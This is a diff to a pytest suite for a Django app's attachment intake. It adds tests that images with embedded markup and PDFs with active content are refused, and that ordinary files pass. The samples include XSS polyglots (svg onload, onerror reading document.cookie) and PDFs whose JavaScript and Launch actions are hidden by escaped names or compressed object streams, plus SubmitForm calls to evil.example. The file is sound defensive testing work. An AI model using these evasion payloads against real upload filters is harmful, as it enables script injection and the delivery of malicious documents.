@@ -8,10 +8,12 @@ are stored and offered under, their permissions on disk, and that no URL but the
 checked view reaches them.
 """
 
+import io
 import re
 import stat
 from pathlib import Path
 
+import pypdf
 import pytest
 from django.conf import settings as django_settings
 from django.contrib.auth import get_user_model
@@ -25,11 +27,12 @@ from disputes import intake
 from disputes.models import Attachment
 from disputes.rules.enums import Channel, PartyRole
 from grids.models import Role
+from tests.disputes.pdf_files import MINIMAL_PDF, PAGES, make_pdf
 
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 64 + b"\xff\xd9"
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
 GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
-PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
+PDF = MINIMAL_PDF
 
 
 def upload(name: str, content: bytes) -> SimpleUploadedFile:
@@ -80,6 +83,190 @@ def test_a_polyglot_is_refused(content):
 def test_real_photos_and_pdfs_are_accepted_with_the_sniffed_type():
     checked = intake.check_attachments([upload("a.jpg", JPEG), upload("b.png", PNG), upload("c.pdf", PDF)])
     assert [f.content_type for f in checked] == ["image/jpeg", "image/png", "application/pdf"]
+
+
+CATALOG, PAGE_TREE, PAGE = PAGES
+
+
+def gif_with_comment(*chunks: bytes) -> bytes:
+    """A 1x1 GIF with a comment extension made of the given data sub-blocks."""
+    comment = b"!\xfe" + b"".join(bytes([len(c)]) + c for c in chunks) + b"\x00"
+    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
+    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + comment + image + b";"
+
+
+WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x30\x01\x00\x9d\x01\x2a" + b"\x00" * 18
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        GIF + b'<svg onload="fetch(`/api/v1/queue/`)">',
+        GIF + b"<svg/onload=alert(1)>",
+        gif_with_comment(b"<scr", b"ipt>alert(1)</scr", b"ipt>"),
+        gif_with_comment(b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='5'/></svg>"),
+        GIF + b"<!DOCTYPE HTML PUBLIC><title>x</title>",
+        JPEG + b"<object data=//evil.example/x.swf>",
+        PNG + b"<EMBED src=//evil.example/x.swf>",
+        WEBP + b"<img src=x onerror=alert(document.cookie)>",
+        JPEG + b"<a href=vbscript:msgbox(1)>",
+    ],
+    ids=[
+        "gif-svg-onload",
+        "gif-svg-slash",
+        "gif-comment-split-script",
+        "gif-comment-svg",
+        "gif-doctype",
+        "jpeg-object",
+        "png-embed",
+        "webp-img-onerror",
+        "jpeg-vbscript",
+    ],
+)
+def test_an_image_carrying_markup_is_refused(content):
+    """The markers the old list missed (`<svg`, `<object`, `<embed`, event handlers), and a GIF comment
+    whose blocks, joined as a GIF reader joins them, spell a script."""
+    assert refused("photo.gif", content) == "file_type"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        gif_with_comment(b"Created with GIMP"),
+        JPEG[:-2]
+        + b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
+        + b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description tiff:Make="HUAWEI"/>'
+        + b"</rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
+        + JPEG[-2:],
+        WEBP,
+    ],
+    ids=["gif-comment", "jpeg-xmp", "webp"],
+)
+def test_images_with_ordinary_metadata_are_accepted_unchanged(content):
+    (checked,) = intake.check_attachments([upload("photo", content)])
+    assert checked.content == content  # kept as the resident sent it, not re-encoded
+
+
+def pdf_refused(content: bytes) -> str:
+    with pytest.raises(ApplicationError) as caught:
+        intake.check_attachments([upload("协议.pdf", content)])
+    assert caught.value.code == "file_type"
+    return str(caught.value.message)
+
+
+JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # Names with escaped letters: /JavaScript and /Launch to a PDF reader, not to a byte scan.
+        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S/Java#53cript /JS (app.alert(1)) >> >>"), PAGE_TREE, PAGE),
+        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S/La#75nch /F (cmd.exe) >> >>"), PAGE_TREE, PAGE),
+        make_pdf(
+            CATALOG.replace(b">>", b" /OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /J#53 (x) >> >>"),
+            PAGE_TREE,
+            PAGE,
+        ),
+        # The same actions inside a compressed object stream.
+        make_pdf(CATALOG.replace(b">>", b" /OpenAction 4 0 R >>"), PAGE_TREE, PAGE, JS_ACTION, packed=True),
+        make_pdf(CATALOG, PAGE_TREE, PAGE.replace(b">>", b" /AA << /O 4 0 R >> >>"), JS_ACTION, packed=True),
+        make_pdf(
+            CATALOG.replace(b">>", b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>"),
+            PAGE_TREE,
+            PAGE,
+            b"<< /Type /Filespec /F (a.exe) >>",
+            packed=True,
+        ),
+        make_pdf(
+            CATALOG.replace(b">>", b" /AcroForm << /Fields [] /XFA 4 0 R >> >>"),
+            PAGE_TREE,
+            PAGE,
+            b"[(template) 5 0 R]",
+            packed=True,
+        ),
+        make_pdf(
+            CATALOG,
+            PAGE_TREE,
+            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>",
+        ),
+        make_pdf(
+            CATALOG,
+            PAGE_TREE,
+            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
+            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",
+            packed=True,
+        ),
+        make_pdf(CATALOG.replace(b">>", b" /OpenAction << /S /ImportData /F (data.fdf) >> >>"), PAGE_TREE, PAGE),
+    ],
+    ids=[
+        "escaped-javascript",
+        "escaped-launch",
+        "fully-escaped",
+        "packed-open-action",
+        "packed-page-aa",
+        "packed-embedded-files",
+        "packed-xfa",
+        "submit-form",
+        "packed-rich-media",
+        "import-data",
+    ],
+)
+def test_a_pdf_with_active_content_is_refused_wherever_and_however_it_is_written(content):
+    # What the old byte scan looked for is nowhere in the file as written.
+    assert not any(marker in content for marker in (b"/JavaScript", b"/Launch", b"/EmbeddedFile"))
+    message = pdf_refused(content)
+    assert "协议.pdf" in message and "嵌入" in message
+
+
+def test_a_pdf_the_parser_cannot_read_is_refused():
+    assert "无法读取" in pdf_refused(b"%PDF-1.4\n" + b"0" * 64)
+
+
+def test_a_pdf_locked_with_a_password_is_refused_but_one_locked_only_against_editing_is_read():
+    def locked(user_password: str) -> bytes:
+        writer = pypdf.PdfWriter()
+        writer.add_blank_page(width=595, height=842)
+        writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
+        out = io.BytesIO()
+        writer.write(out)
+        return out.getvalue()
+
+    assert "无法读取" in pdf_refused(locked("resident-secret"))
+    (checked,) = intake.check_attachments([upload("协议.pdf", locked(""))])
+    assert checked.content_type == "application/pdf"
+
+
+def test_a_pdf_refusal_speaks_english_when_asked():
+    from django.utils import translation
+
+    with translation.override("en"):
+        message = pdf_refused(
+            make_pdf(CATALOG.replace(b">>", b" /OpenAction 4 0 R >>"), PAGE_TREE, PAGE, JS_ACTION, packed=True)
+        )
+    assert message.startswith("“协议.pdf” contains scripts")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        MINIMAL_PDF,
+        make_pdf(*PAGES, packed=True),
+        # Opening at page one and a web link are what ordinary documents carry.
+        make_pdf(
+            CATALOG.replace(b">>", b" /OpenAction [3 0 R /Fit] >>"),
+            PAGE_TREE,
+            PAGE.replace(b">>", b" /Annots [4 0 R] >>"),
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.cn/) >> >>",
+            packed=True,
+        ),
+    ],
+    ids=["plain", "packed", "open-at-page-and-link"],
+)
+def test_ordinary_pdfs_are_accepted(content):
+    (checked,) = intake.check_attachments([upload("协议.pdf", content)])
+    assert checked.content == content and checked.content_type == "application/pdf"
 
 
 @pytest.mark.parametrize(
